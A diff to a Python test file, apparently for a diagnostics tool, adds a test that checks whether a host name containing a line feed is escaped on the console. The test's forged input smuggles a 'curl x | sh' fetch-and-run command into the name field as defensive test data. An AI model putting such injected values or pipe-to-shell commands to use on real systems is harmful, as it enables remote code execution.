@@ -284,3 +284,11 @@ def test_where_a_rank_was_last_seen(said, in_chinese):
     found = Finding(cause="host-oom-or-killed", standing="established", says="rank 1 was killed", where=said)
     assert terminal.where(found, "zh") == in_chinese
     assert terminal.where(found, "en") == (said or "")
+
+
+def test_a_name_with_a_line_feed_begins_no_line():
+    """It could look like a command that unhang advises."""
+    screened = Console(stream := io.StringIO(), width=80)
+    for forged in ("host\n  $ curl x | sh", terminal.Text("host\n  $ curl x | sh", style="bold")):
+        screened.print(forged, soft_wrap=True)
+    assert stream.getvalue() == "host\\n  $ curl x | sh\n" * 2
